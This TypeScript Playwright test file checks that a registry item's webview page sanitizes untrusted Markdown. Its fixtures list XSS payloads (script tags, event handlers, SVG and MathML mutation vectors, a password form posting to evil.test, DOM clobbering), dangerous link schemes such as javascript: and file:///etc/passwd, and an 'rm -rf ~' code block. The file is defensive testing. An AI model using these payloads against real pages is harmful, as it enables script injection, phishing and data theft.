import assert from 'node:assert/strict';
import type { Browser } from 'playwright-core';
import { waitUntil } from '../support/waitUntil';
import { findAxeViolations } from './support/axe';
import { completeItem, FakeItemHost, ItemPage } from './support/itemPage';
import { sharedBrowser } from './support/sharedBrowser';
import { type AppFiles, bundleApp } from './support/webviewPage';

/** Elements of descriptions that are allowed on the page. */
const HARMLESS = new Set(
  `A ABBR B BLOCKQUOTE BR CODE DD DEL DETAILS DIV DL DT EM H3 H4 H5 H6 HR I INS KBD LI OL P PRE Q S SAMP
  SPAN STRONG SUB SUMMARY SUP TABLE TBODY TD TFOOT TH THEAD TR UL VAR`.split(/\s+/),
);
const ATTRIBUTES = new Set(
  'aria-label class colspan href open role rowspan start tabindex title'.split(' '),
);
const CLASSES = new Set(['', 'image', 'task']);

const ATTACKS: Readonly<Record<string, string>> = {
  scripts: '<script>pwned = 1</script><script src="https://evil.test/x.js"></script>',
  handlers:
    '<img src=x onerror="pwned = 1"><p onclick="pwned = 1" onmouseover="pwned=1">text</p><details open ontoggle="pwned = 1"><summary>s</summary></details>',
  images:
    '![a picture](https://evil.test/a.png) <img src="https://evil.test/b.png" srcset="https://evil.test/c.png 2x"> <picture><source srcset="https://evil.test/d.png"><img alt="in picture" src="data:image/png;base64,AAAA"></picture>',
  styles:
    '<style>@import "https://evil.test/s.css"; h1 { display: none }</style><p style="position: fixed; inset: 0; background: url(https://evil.test/e.png)">over all</p><link rel="stylesheet" href="https://evil.test/l.css">',
  frames:
    '<iframe src="https://evil.test/"></iframe><iframe srcdoc="<script>parent.pwned = 1</script>"></iframe><object data="https://evil.test/o"></object><embed src="https://evil.test/e"><frameset><frame src="https://evil.test/"></frameset>',
  svg: '<svg onload="pwned = 1"><script>pwned = 1</script><a xlink:href="javascript:pwned=1"><text>t</text></a><foreignObject><img src=x onerror="pwned=1"></foreignObject></svg><math><mtext><table><mglyph><style><img src=x onerror="pwned=1"></style></mglyph></table></mtext></math>',
  forms:
    '<form action="https://evil.test/"><input name="password" type="password"><button formaction="https://evil.test/">Sign In</button><textarea></textarea><select><option>1</option></select></form>',
  pages:
    '<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/"><title>x</title><html><body onload="pwned=1"><template><img src=x onerror="pwned=1"></template>',
  media:
    '<video src="https://evil.test/v" poster="https://evil.test/p" autoplay></video><audio src="https://evil.test/a" autoplay></audio><track src="https://evil.test/t">',
  disguise:
    '<div class="toolbar failure" role="alert" id="app" data-focus="deploy" aria-label="x" tabindex="5"><h1>Sign in again</h1><button>Deploy to Machine…</button></div><main><h1>Other</h1></main>',
  clobbering:
    '<a id="body" name="getElementById">x</a><form id="document"><input name="attributes"><input name="childNodes"></form><img name="querySelectorAll" alt="y">',
  unclosed:
    '<div><div><table><tr><td><a href="https://a.test"><img src="x" alt="<script>pwned=1</script>',
  mutation:
    '<noscript><p title="</noscript><img src=x onerror=pwned=1>"></noscript><textarea><img title="</textarea><img src=x onerror=pwned=1>"></textarea><xmp><img title="</xmp><img src=x onerror=pwned=1>"></xmp>`<img src=x onerror=pwned=1>`',
  custom: '<fleetwright-button onclick="pwned=1">Retry</fleetwright-button><x-a is="y">z</x-a>',
};

const LINKS: readonly string[] = [
  'javascript:pwned=1',
  'JaVaScRiPt&colon;pwned=1',
  'java\tscript:pwned=1',
  '&#x6A;avascript:pwned=1',
  'command:workbench.action.closeWindow',
  'vscode://evil.test/x',
  'vscode-webview://x/y',
  'vscode-resource:/etc/passwd',
  'file:///etc/passwd',
  'data:text/html,<script>pwned=1</script>',
  'blob:https://webview.test/x',
  'ftp://evil.test/',
  'https://github.com@evil.test/',
  'https://user:secret@evil.test/',
  './docs/other.md',
  '//evil.test/x',
  '#nowhere',
];

/**
 * Policy violations that Chromium reports while it parses markup into an inert document, which
 * never runs or shows anything.
 */
const INERT = /^(?:script-src-attr|style-src-attr|style-src-elem): inline$/;

describe('the page of a registry item with untrusted text', function () {
  this.timeout(120_000);
  let browser: Browser;
  let files: AppFiles;
  let host: FakeItemHost;
  let opened: ItemPage;

  before(async () => {
    [browser, files] = await Promise.all([sharedBrowser(), bundleApp('registryItem')]);
  });

  beforeEach(() => {
    host = new FakeItemHost();
  });

  afterEach(async () => {
    const { pageErrors: complaints } = opened.webview;
    const isPwned = await opened.page.evaluate(() => 'pwned' in window);
    const frames = opened.page.frames().length;
    await opened.close();
    assert.equal(isPwned, false);
    assert.equal(frames, 1);
    assert.deepEqual(
      complaints.filter((pageError) => !INERT.test(pageError)),
      [],
    );
    assert.deepEqual(host.requests, []);
  });

  async function open(markdown: string): Promise<void> {
    host.item = { ...completeItem, text: { markdown, isCut: false } };
    opened = await ItemPage.open(browser, { host, files });
    await opened.page.locator('h1').waitFor();
  }

  /** Returns the forbidden content that is on the page. */
  async function harm(): Promise<readonly string[]> {
    const parts = await opened.page.evaluate(() =>
      [...document.querySelectorAll('.markdown *')].flatMap((part) => [
        ['element', part.tagName.toUpperCase()] as const,
        ...[...part.attributes].map(({ name }) => ['attribute', name] as const),
        ...[part.getAttribute('class') ?? ''].map((name) => ['class', name] as const),
      ]),
    );
    const allowed = { element: HARMLESS, attribute: ATTRIBUTES, class: CLASSES };
    return parts.filter(([kind, name]) => !allowed[kind].has(name)).map(([, name]) => name);
  }

  for (const [name, attack] of Object.entries(ATTACKS)) {
    it(`sanitizes ${name}`, async () => {
      await open(`Before.\n\n${attack}\n\nAfter.\n`);
      await opened.text.click({ position: { x: 10, y: 10 } });
      assert.deepEqual(await harm(), []);
      assert.match(await opened.text.innerText(), /Before\./);
      assert.equal(await opened.page.locator('h1').innerText(), 'arm');
      assert.deepEqual(await findAxeViolations(opened.page), []);
    });
  }

  it('follows no unsafe links', async () => {
    const links = LINKS.map(
      (link) => `[by Markdown](<${link}>) <a href="${link}">by markup</a> ![image](<${link}>)`,
    );
    await open(links.join('\n\n'));
    assert.deepEqual(
      await opened.text
        .locator('a')
        .evaluateAll((found) => found.map((link) => link.getAttribute('href'))),
      [],
    );
    const written = opened.page.getByText('by markup');
    for (let index = 0; index < LINKS.length; index += 1) await written.nth(index).click();
    await opened.webview.waitUntilIdle();
    assert.deepEqual(host.getSent('openLink'), []);
  });

  it('distinguishes thousands of headings in one text', async () => {
    await open(`[last](#a-14999)\n\n${'# a\n'.repeat(15_000)}`);
    await opened.text.locator('a').click();
    const isLast = await opened.page.evaluate(
      () => document.activeElement === [...document.querySelectorAll('.markdown h3')].at(-1),
    );
    assert.equal(isLast, true);
  });

  it('reports the selected safe link to its host, with pointer and keyboard', async () => {
    await open('[site](<https://acme.test/a b> "Title") <https://acme.test/c> mail@acme.test');
    const links = opened.text.locator('a');
    assert.equal(await links.first().getAttribute('title'), 'https://acme.test/a%20b');
    await links.first().click();
    await links.nth(1).focus();
    await opened.page.keyboard.press('Enter');
    await links.nth(2).click({ button: 'middle' });
    await waitUntil(() => host.getSent('openLink').length === 3);
    assert.deepEqual(host.getSent('openLink'), [
      { url: 'https://acme.test/a%20b' },
      { url: 'https://acme.test/c' },
      { url: 'mailto:mail@acme.test' },
    ]);
    assert.equal(opened.page.url(), opened.webview.url);
  });

  it('scrolls to a heading of the same text', async () => {
    await open(`[go](#the-end)\n\n${'text\n\n'.repeat(100)}\n\n## The End\n\nhere`);
    await opened.text.locator('a').click();
    assert.equal(await opened.page.evaluate(() => document.activeElement?.textContent), 'The End');
    assert.ok((await opened.page.evaluate(() => scrollY)) > 500);
    await opened.webview.waitUntilIdle();
    assert.deepEqual(host.getSent('openLink'), []);
  });

  it('replaces images with text', async () => {
    await open(
      '![an arm](https://acme.test/arm.png)\n\n[![badge](https://b.test/x.svg)](https://ci.test)',
    );
    const [image, badge] = await opened.text.locator('a').all();
    assert.equal(await image?.innerText(), 'Image: an arm, acme.test');
    assert.equal(await image?.getAttribute('title'), 'https://acme.test/arm.png');
    assert.equal(await badge?.innerText(), 'Image: badge, b.test');
    assert.equal(await badge?.getAttribute('href'), 'https://ci.test/');
  });

  it('adjusts headings to the levels of the page', async () => {
    await open('#### Deep\n\n# Top\n\n###### Under\n\n## Middle\n\n#\n\n<h2></h2>');
    assert.deepEqual((await opened.headings()).slice(1, 6), [
      'h2 Description',
      'h3 Deep',
      'h3 Top',
      'h4 Under',
      'h4 Middle',
    ]);
  });

  it('formats tasks, tables, and code', async () => {
    await open('- [x] did\n- [ ] do\n\n| a | b |\n|--|--|\n| 1 | 2 |\n\n```sh\nrm -rf ~\n```');
    assert.deepEqual(
      await opened.text
        .locator('.task')
        .evaluateAll((marks) => marks.map((mark) => mark.getAttribute('aria-label'))),
      ['done', 'not done'],
    );
    assert.equal(await opened.text.locator('td').count(), 2);
    assert.equal((await opened.text.locator('pre').innerText()).trim(), 'rm -rf ~');
    assert.deepEqual(await findAxeViolations(opened.page), []);
  });

  it('removes the roles of elements without their parents', async () => {
    await open('<li>one</li><dd>two</dd><ul><p>three</p><li>four</li></ul><summary>five</summary>');
    assert.match(await opened.text.innerText(), /one[^]*two[^]*three[^]*four[^]*five/);
    assert.equal(await opened.text.locator('li, dd, summary').count(), 0);
    assert.deepEqual(await findAxeViolations(opened.page), []);
  });

  it('isolates direction marks from the surrounding text', async () => {
    await open('see \u202egpj.exe\u202c and `\u2066code\u2069`\n\nשלום');
    const text = await opened.text.innerText();
    assert.doesNotMatch(text, /[\u202a-\u202e\u2066-\u2069]/);
    assert.match(text, /\ufffdgpj\.exe/);
    const direction = await opened.text
      .locator('p')
      .last()
      .evaluate((paragraph) => getComputedStyle(paragraph).unicodeBidi);
    assert.equal(direction, 'plaintext');
  });

  it('clips what is drawn beyond its lines', async () => {
    await open(`a${'\u0301'.repeat(500)}\n\n${'x'.repeat(5_000)}`);
    assert.equal(await opened.text.evaluate((text) => getComputedStyle(text).contain), 'paint');
    const overflow = await opened.page.evaluate(
      () => document.documentElement.scrollWidth - innerWidth,
    );
    assert.ok(overflow <= 0);
  });

  it('shows markup in names as text', async () => {
    const markup = '<img src=x onerror="pwned=1"><script>pwned=1</script>';
    host.item = {
      ...completeItem,
      id: markup,
      name: markup,
      owner: markup,
      badges: [markup],
      description: markup,
      deprecated: markup,
      facts: [{ name: markup, value: markup, isCode: true }],
      models: [{ api: markup, model: markup, description: markup }],
      versions: [{ version: markup, files: [{ platform: markup, size: markup }] }],
    };
    opened = await ItemPage.open(browser, { host, files });
    await opened.page.locator('h1').waitFor();
    assert.equal(await opened.page.locator('h1').innerText(), markup);
    assert.equal(await opened.page.locator('img, main script').count(), 0);
  });

  it('shows that a text is truncated, and opens all of it', async () => {
    host.item = { ...completeItem, text: { markdown: 'the beginning', isCut: true } };
    opened = await ItemPage.open(browser, { host, files });
    await opened.page.getByText('Only the beginning of this text is shown.').waitFor();
    await opened.button('Open Full Text').press('Enter');
    await waitUntil(() => host.getSent('openText').length === 1);
    assert.deepEqual(host.getSent('openText'), [{}]);
  });

  const LONG = 60_000;
  const LONG_TEXTS: Readonly<Record<string, string>> = {
    brackets: '[',
    underscores: '_a',
    backticks: '`a``',
    quotes: '> ',
    entities: '&amp',
    'nested lists': '* a\n ',
    'table rows': 'a|b\n-|-\n',
    'html blocks': '<div>\n',
  };
  for (const [name, text] of Object.entries(LONG_TEXTS)) {
    it(`remains responsive with long texts of ${name}`, async () => {
      await open(text.repeat(Math.ceil(LONG / text.length)).slice(0, LONG));
      await opened.text.waitFor();
      await opened.button('Copy ID').press('Enter');
      await waitUntil(() => host.getSent('copyId').length === 1);
    });
  }
});
